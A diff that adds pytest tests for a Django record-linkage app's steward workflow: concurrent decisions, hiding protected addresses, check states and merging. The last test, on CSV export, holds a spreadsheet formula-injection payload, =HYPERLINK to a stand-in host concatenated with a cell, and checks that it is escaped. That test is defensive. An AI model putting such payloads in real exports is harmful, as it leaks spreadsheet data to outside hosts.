@@ -1,13 +1,20 @@
+import re
+from datetime import timedelta
+
 import pytest
 from django.urls import reverse
 
+from alongside.access import days
 from alongside.access.policy import Role
-from alongside.context import deciding
+from alongside.context import deciding, deliveries, exporting, linking_up, loading, models_of_linkage
 from alongside.context.errors import CannotDecide
-from alongside.context.models import AgencyRecord, Decision, Pair
+from alongside.context.models import AgencyRecord, Decision, FeedDelivery, Pair
+from alongside.context.states import State
+from alongside.desk import news
 from alongside.people import actions as people
 from alongside.people import merging
 from alongside.people.from_case_system import join_family
+from alongside.practice import profile
 from tests.context import services
 from tests.people import staff
 
@@ -24,6 +31,35 @@ def unsure(world, steward_here, tmp_path):
     row = services.known_as(samira, "N5", born_on=samira.birth_on.replace(month=1, day=9).strftime("%d/%m/%Y"))
     services.bring(tmp_path, "police", steward_here, row)
     return Pair.objects.get(person=samira)
+
+
+def also_compared(pair, person, **more):
+    """A pair of the same record with somebody else, about which nobody has decided."""
+    other = Pair(
+        feed=pair.feed, record_key=pair.record_key, person=person, data_key=person.data_key, band="uncertain",
+        probability=0.7, model_version="x", evidence=pair.evidence, compared_at=pair.compared_at, said_then="x",
+        **{"waits_as": Pair.Waits.NEW} | more,
+    )  # fmt: skip
+    other.save(force_insert=True)
+    return other
+
+
+def service_of(world, person, feed="police"):
+    """A service as Maria's page has it for somebody of the family."""
+    [card] = [
+        each for each in loading.cards_of(world.family, days.today(), world.maria.account) if each.person == person
+    ]
+    return next(each for each in card.services if each.feed.key == feed)
+
+
+def seen_in(html):
+    """What the form says that it showed."""
+    tag = re.search(r'<input[^>]*name="seen"[^>]*>', html)[0]
+    return re.search(r'value="([^"]+)"', tag)[1]
+
+
+def state_of(world, person):
+    return service_of(world, person).state
 
 
 def test_a_certain_pair_is_linked_by_the_rule_and_says_so(pair):
@@ -81,6 +117,24 @@ def test_cannot_tell_asks_a_colleague_once(unsure, steward_here):
     deciding.decide(unsure, verdict=Pair.Verdict.CANNOT_TELL, because="", by=colleague)
     unsure.refresh_from_db()
     assert (unsure.stands, unsure.waits_as) == (Pair.Verdict.CANNOT_TELL, "")
+
+
+def test_a_decision_that_somebody_made_meanwhile_is_shown_and_not_written_over(world, pair, steward_here):
+    client, page = world.of(steward_here), reverse("link", kwargs={"pair": pair.pk})
+    seen = seen_in(client.get(page).content.decode())
+    deciding.say_wrong_person(pair, because="I rang: she is 70.", by=world.maria.account)
+    late = client.post(page, {"verdict": "same", "because": "The names agree.", "seen": seen})
+    html = late.content.decode()
+    assert late.status_code == 200
+    assert "changed this while you were writing" in html
+    assert "I rang: she is 70." in html
+    assert "The names agree." in html
+    pair.refresh_from_db()
+    assert (pair.stands, pair.waits_as) == (Pair.Verdict.DIFFERENT, Pair.Waits.WRONG)
+    again = {"verdict": "same", "because": "I rang too.", "seen": seen_in(html)}
+    assert client.post(page, again).status_code == 302
+    pair.refresh_from_db()
+    assert pair.stands == Pair.Verdict.SAME
 
 
 def test_one_record_is_never_linked_with_two_people(world, pair, steward_here):
@@ -158,6 +212,42 @@ def test_a_protected_address_is_no_reason_that_anybody_is_shown(world, steward_h
     assert "one of them is protected" in html
 
 
+def test_a_record_that_may_be_of_somebody_else_who_fled_shows_no_address(world, steward_here, tmp_path):
+    row = services.known_as(world.amina, "N1", address="Flat 3 Heron Court, Saltmarsh Walk", postcode="RV7 4QD")
+    services.bring(tmp_path, "police", steward_here, row)
+    other = also_compared(Pair.objects.get(person=world.amina), world.family.people.get(forename="Samira"))
+    page = reverse("link", kwargs={"pair": other.pk})
+    html = world.of(steward_here).get(page).content.decode()
+    assert "RV7" not in html
+    assert "Heron" not in html
+    assert "one of them is protected" in html
+    Pair.objects.filter(person=world.amina).update(stands=Pair.Verdict.DIFFERENT)
+    assert "Heron" not in world.of(steward_here).get(page).content.decode(), "it is her home, whoever the record is of"
+
+
+def test_how_the_record_of_another_home_compares_is_told_once_it_is_not_hers(world, steward_here, tmp_path):
+    row = services.known_as(world.amina, "N1", address="9 Quay Road", postcode="RV1 1AA")
+    services.bring(tmp_path, "police", steward_here, row)
+    other = also_compared(Pair.objects.get(person=world.amina), world.family.people.get(forename="Samira"))
+    page = reverse("link", kwargs={"pair": other.pk})
+    assert "one of them is protected" in world.of(steward_here).get(page).content.decode()
+    Pair.objects.filter(person=world.amina).update(stands=Pair.Verdict.DIFFERENT)
+    html = world.of(steward_here).get(page).content.decode()
+    assert "one of them is protected" not in html
+    assert "Quay" not in html, "a data steward reads no address"
+
+
+def test_a_certain_record_of_somebody_else_is_for_the_steward_to_look_at(world, pair, steward_here):
+    other = also_compared(pair, world.family.people.get(forename="Samira"))
+    deciding.decide(pair, verdict=Pair.Verdict.DIFFERENT, because="No.", by=steward_here)
+    deciding.decide(other, verdict=Pair.Verdict.SAME, because="I rang.", by=steward_here)
+    Decision.objects.filter(pair=pair).delete()
+    pair.delete()
+    services.link(steward_here)
+    found = Pair.objects.get(person=world.amina)
+    assert (found.stands, found.waits_as) == ("", Pair.Waits.NEW)
+
+
 def test_a_person_added_since_is_not_checked(world, police):
     uncle = people.add_person(forename="Omar", surname="Hassan", by=None)
     uncle.birth_on = world.amina.birth_on
@@ -168,6 +258,89 @@ def test_a_person_added_since_is_not_checked(world, police):
     assert "this person was added here after the last check" in client.get(page).content.decode()
     services.link()
     assert "this person was added here after" not in client.get(page).content.decode()
+
+
+def test_a_person_who_was_in_no_family_yet_when_others_were_compared_is_not_checked(world, police, steward_here):
+    uncle = people.add_person(forename="Omar", surname="Hassan", by=None)
+    uncle.birth_on = world.amina.birth_on
+    uncle.save()
+    services.link(steward_here)
+    join_family(world.family, uncle, by=None)
+    assert state_of(world, uncle) is State.NOT_CHECKED
+    services.link(steward_here)
+    assert state_of(world, uncle) is State.NO_RECORD
+
+
+def test_a_person_is_not_checked_until_every_delivery_that_counts_was_compared(
+    world, steward_here, tmp_path, monkeypatch
+):
+    practice = profile.current()
+    feeds = tuple(each.model_copy(update={"holds_all": False}) for each in practice.feeds)
+    adding = practice.model_copy(update={"feeds": feeds})
+    monkeypatch.setattr(profile, "current", lambda: adding)
+    long_ago = days.today() - timedelta(days=40)
+    services.bring(tmp_path, "police", steward_here, services.known_as(world.amina, "N1"), as_of=long_ago)
+    uncle = people.add_person(forename="Omar", surname="Hassan", by=None)
+    uncle.birth_on = world.amina.birth_on
+    uncle.save()
+    join_family(world.family, uncle, by=None)
+    services.take(tmp_path, "police", steward_here, services.known_as(world.dean, "N2"))
+    list(linking_up.link_all(by=steward_here, learnt=models_of_linkage.shipped(), only_new=True))
+    assert state_of(world, uncle) is State.NOT_CHECKED
+    [record] = service_of(world, world.amina).records
+    assert record.correct_as_of == long_ago, "it came then, whatever came since"
+
+
+@pytest.mark.parametrize("how", ["taken back", "replaced"])
+def test_a_record_that_is_there_no_more_waits_for_nobody(world, unsure, steward_here, tmp_path, how):
+    samira = unsure.person
+    assert state_of(world, samira) is State.BEING_CHECKED
+    if how == "replaced":
+        services.bring(tmp_path, "police", steward_here, services.known_as(world.amina, "N1"))
+        assert state_of(world, samira) is State.NO_RECORD
+    else:
+        deliveries.take_back(FeedDelivery.objects.get(), because="The wrong file.", by=steward_here)
+        assert state_of(world, samira) is State.NOT_CHECKED
+
+
+def test_a_record_linked_with_a_second_record_of_somebody_can_be_linked_with_the_kept_one(
+    world, police, pair, steward_here
+):
+    kept = people.add_person(forename="Amina", surname="Hassan", by=None)
+    kept.birth_on = world.amina.birth_on
+    kept.save()
+    join_family(world.family, kept, by=None)
+    other = also_compared(pair, kept)
+    with pytest.raises(CannotDecide):
+        deciding.decide(other, verdict=Pair.Verdict.SAME, because="", by=steward_here)
+    maria, joy = world.maria.account, world.joy.account
+    asked = merging.ask(world.family, kept=kept, merged=world.amina, because="The same woman.", by=maria)
+    if asked.needs_manager:
+        merging.decide(asked, is_right=True, by=joy)
+    deciding.decide(other, verdict=Pair.Verdict.SAME, because="", by=steward_here)
+    assert state_of(world, kept) is State.CURRENT
+
+
+def test_what_is_new_counts_no_record_that_the_page_does_not_show(world, police, steward_here, tmp_path):
+    def said():
+        found = news.of(world.maria.account, {world.family.pk: world.family}, [], days.today() - timedelta(days=30))
+        return [each.text for each in found if "linked" in each.text]
+
+    assert said() == ["2 records of services linked"]
+    deliveries.take_back(police, because="The wrong file.", by=steward_here)
+    assert said() == []
+    services.bring(tmp_path, "police", steward_here, services.known_as(world.sam, "N3"))
+    assert Pair.objects.linked().filter(person=world.sam).exists()
+    assert state_of(world, world.sam) is State.HIDDEN_BY_AGE
+    assert said() == []
+
+
+def test_exported_links_hold_no_formula(world, steward_here, tmp_path):
+    services.bring(
+        tmp_path, "police", steward_here, services.known_as(world.amina, '=HYPERLINK("http://x.example/"&C2)')
+    )
+    [row] = exporting.links(steward_here)
+    assert row[1].startswith("'=HYPERLINK")
 
 
 def test_two_records_of_one_person_keep_what_was_decided_about_each(world, pair, steward_here, tmp_path):
